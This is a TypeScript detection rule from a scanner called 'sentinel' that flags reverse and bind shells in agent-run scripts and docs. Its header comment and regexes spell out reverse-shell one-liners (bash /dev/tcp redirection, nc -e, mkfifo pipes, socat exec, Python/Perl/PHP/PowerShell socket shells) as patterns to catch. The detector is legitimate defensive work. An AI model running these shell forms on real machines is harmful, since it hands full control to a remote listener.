/**
 * sentinel/reverse-shell — code that hands a shell to a remote host:
 * `bash -i >& /dev/tcp/HOST/PORT 0>&1` (and `/dev/udp`, `exec 5<>/dev/tcp/…` with a shell
 * on the descriptor), `nc -e /bin/sh HOST PORT` (and `ncat`/`netcat`/`busybox nc`, `-c`,
 * `--exec`, `--sh-exec`), the `mkfifo … | nc` pipe, `telnet … | sh | telnet …`,
 * `socat … exec:/bin/sh`, gawk `/inet/tcp/`, interpreter one-liners (`python -c
 * '…socket…connect…'`, `perl [-MIO] -e '…Socket…'`, `php -r '…fsockopen…'`, `ruby
 * -rsocket -e`, `node -e '…net…spawn…sh…'`), PowerShell `Net.Sockets.TCPClient` driving
 * `Invoke-Expression` (one line or across lines), `powercat -e` / `Invoke-PowerShellTcp`,
 * and, across lines of one file or code block, a Python socket whose descriptors are
 * `os.dup2`-ed onto a shell, handed to `subprocess.Popen(["/bin/sh"], stdin=s.fileno() …)`
 * or `pty.spawn`ed, or a Node `child_process` shell piped into a `net` socket.
 *
 * Why: a reverse shell gives whoever listens at HOST full control of the machine; no
 * skill needs one. Error, judgment kind: a negation or example cue in the same sentence,
 * a line comment or a documentation host (attacker.com, evil.example …) in a reference
 * document lowers it (report.ts; for the multi-line forms the host of the socket's
 * `connect` is looked at). Scope: everything the agent runs (`commands`): scripts,
 * fenced and inline code, prose, HTML comments. Not a finding: `/dev/tcp/localhost/…`
 * health checks, `nc -zv host port` probes, a socket that only sends data.
 */
import type { Rule } from '../../rules/types.ts';
import { emit, type Reason } from './report.ts';
import { candidates, commands, sentinelView, type SentinelFile } from './view.ts';
import { DOC_HOST_IN_TEXT } from './hosts.ts';

const NOT_LOCAL = String.raw`(?!(?:localhost|127\.0\.0\.1)\/)`;

const ONE_LINERS = new RegExp(
  [
    String.raw`\b(?:ba|z|k|da)?sh\s+-i\b[^\n]{0,300}?[<>]&?\s*\/dev\/(?:tcp|udp)\/${NOT_LOCAL}`,
    String.raw`[<>]&?\s*\/dev\/(?:tcp|udp)\/${NOT_LOCAL}[\w.$\{\}-]+\/[\w$\{\}]+\s+0>&1`,
    String.raw`\bexec\s+\d+<>\s*\/dev\/(?:tcp|udp)\/${NOT_LOCAL}[\w.$\{\}-]+\/[\w$\{\}]+[^\n]{0,300}?(?:\b(?:ba|z)?sh\b[^\n]{0,60}[<>]&\s*\d+|\bwhile\s+read\b|\$line\b)`,
    String.raw`\b(?:nc|ncat|netcat)(?:\.exe)?\b[^\n|;&]{0,300}?\s(?:-[a-zA-Z]*[ec]|--exec|--sh-exec)\s+["']?\S*(?:\/bin\/)?(?:ba|z)?sh\b`,
    String.raw`\b(?:nc|ncat|netcat)(?:\.exe)?\b[^\n|;&]{0,300}?\s-[a-zA-Z]*e\s+["']?(?:cmd|powershell)(?:\.exe)?\b`,
    String.raw`\bmkfifo\s+\S+[^\n]{0,300}\|\s*(?:nc|ncat|netcat|telnet)\b`,
    String.raw`\btelnet\s+\S+\s+\d+\s*\|\s*(?:\/bin\/)?(?:ba|z)?sh\b`,
    String.raw`\bsocat\b[^\n]{0,300}\b(?:exec|system):[^\n]{0,300}\b(?:ba|z)?sh\b`,
    String.raw`\bawk\b[^\n]{0,300}\/inet\/tcp\/`,
    String.raw`\bpython[0-9.]*\s+-c\s+["'][^\n]{0,300}\bsocket\b[^\n]{0,300}\bconnect\s*\(`,
    String.raw`\bperl\b[^\n]{0,40}\s-e\s+["'][^\n]{0,300}(?:\buse\s+Socket\b|IO::Socket|\bsocket\s*\()`,
    String.raw`\bphp\s+-r\s+["'][^\n]{0,300}\bfsockopen\s*\(`,
    String.raw`\bruby\s+-rsocket\s+-e\b`,
    String.raw`\bnode\s+-e\s+["'][^\n]{0,400}\bnet\b[^\n]{0,400}\b(?:spawn|exec)\b[^\n]{0,200}\b(?:ba|z)?sh\b`,
    String.raw`(?:New-Object\s+(?:System\.)?Net\.Sockets\.TCPClient|\[(?:System\.)?Net\.Sockets\.TcpClient\]::new)\s*\([^\n]{0,600}\b(?:iex|Invoke-Expression)\b`,
    String.raw`\bpowercat\b[^\n]{0,200}\s-c\s+\S+[^\n]{0,100}\s-e\s+(?:cmd|powershell)\b|\bInvoke-PowerShellTcp\b[^\n]{0,200}-Reverse\b`,
  ].join('|'),
  'gi',
);

/** Multi-line Python: a socket plus dup2 onto fds 0–2, a shell fed by the socket, or pty.spawn of a shell. */
const PY_SHELL =
  /\bos\.dup2\s*\(\s*[\w.]+\.fileno\(\)\s*,\s*[0-2]\s*\)|\bpty\.spawn\s*\(\s*["'](?:\/bin\/)?(?:ba|z)?sh["']|\bsubprocess\.(?:call|Popen|run)\s*\(\s*\[\s*["'](?:\/bin\/)?(?:ba|z)?sh["'][^\n]{0,200}(?:["']-i["']|\bstdin\s*=\s*[\w.]+\.fileno\(\))/g;
const PY_SOCKET = /\bsocket\.socket\s*\(|\bsocket\.create_connection\s*\(|\bsocket\(\s*\)/;
const PS_CLIENT = /New-Object\s+(?:System\.)?Net\.Sockets\.TCPClient\s*\(|\[(?:System\.)?Net\.Sockets\.TcpClient\]::new\s*\(/gi;
const PS_EXEC = /\b(?:iex|Invoke-Expression)\b/i;
/** Multi-line Node: a shell child process whose streams are piped to a net socket. */
const JS_SHELL = /\b(?:spawn|exec)\s*\(\s*["'](?:\/bin\/)?(?:ba|z)?sh["']/g;
const JS_SOCKET = /\bnew\s+net\.Socket\s*\(|\bnet\.(?:connect|createConnection)\s*\([\s\S]{0,400}?\.pipe\s*\(|\.pipe\s*\([\s\S]{0,200}?\bnet\./;

/** Documentation hosts: a reference showing a shell to attacker.example is a teaching example. */
const CONNECT_HOST = /\b(?:connect|create_connection|TCPClient|TcpClient\]::new|net\.connect|createConnection)\s*\(\s*\(?\s*["']([^"']+)["']/i;

export const rule: Rule = {
  meta: {
    id: 'sentinel/reverse-shell',
    module: 'Sentinel',
    dimension: 'dim10',
    defaultSeverity: 'error',
    category: 'malicious-command',
    description: {
      en: 'Reverse or bind shell: a shell wired to a network socket (bash -i >& /dev/tcp, nc -e, socket + dup2, TCPClient + iex).',
      zh: '反弹/绑定 shell：把 shell 接到网络连接上（bash -i >& /dev/tcp、nc -e、socket + dup2、TCPClient + iex）。',
    },
    fixable: false,
    messages: {
      shell: {
        en: 'Reverse shell: this wires a shell to a remote socket, giving the listener control of the machine — do not install{note}.',
        zh: '反弹 shell：把 shell 接到远程连接上，监听方即可控制本机——请勿安装{note}。',
      },
    },
  },
  check(ctx) {
    const reported = new Set<string>();
    for (const { sf, seg, start: from, end: to } of candidates(sentinelView(ctx.doc), 'revshell', commands)) {
      const line = sf.info.text.slice(from, to);
      let m: RegExpExecArray | null;
      ONE_LINERS.lastIndex = 0;
      while ((m = ONE_LINERS.exec(line))) {
        const start = from + m.index;
        emit(ctx, { sf, seg, start, end: start + m[0].length, messageId: 'shell', base: 'error', kind: 'judgment', category: 'malicious-command' });
      }
      // Across lines: a Python socket whose fds go to a shell, a PowerShell TCP client driving iex, a Node shell piped to a socket.
      const key = `${sf.file.path}:${seg.start}`;
      for (const [re, needs] of [
        [PY_SHELL, PY_SOCKET],
        [PS_CLIENT, PS_EXEC],
        [JS_SHELL, JS_SOCKET],
      ] as const) {
        re.lastIndex = 0;
        if (!(m = re.exec(line)) || reported.has(key)) continue;
        const block = sf.info.text.slice(seg.start, seg.end);
        if (!needs.test(block)) continue;
        if (re === PS_CLIENT && /\b(?:iex|Invoke-Expression)\b/i.test(line)) continue; // the one-liner above has it
        reported.add(key);
        const start = from + m.index;
        emit(ctx, {
          sf,
          seg,
          start,
          end: start + m[0].length,
          messageId: 'shell',
          base: 'error',
          kind: 'judgment',
          category: 'malicious-command',
          reason: docHost(sf, block),
        });
      }
    }
  },
};

/** For the multi-line forms: the socket connects to a documentation host, in a reference document. */
function docHost(sf: SentinelFile, block: string): Reason | undefined {
  if (sf.role !== 'markdown') return undefined;
  const host = CONNECT_HOST.exec(block)?.[1];
  return host && DOC_HOST_IN_TEXT.test(` ${host}`) ? 'example-host' : undefined;
}
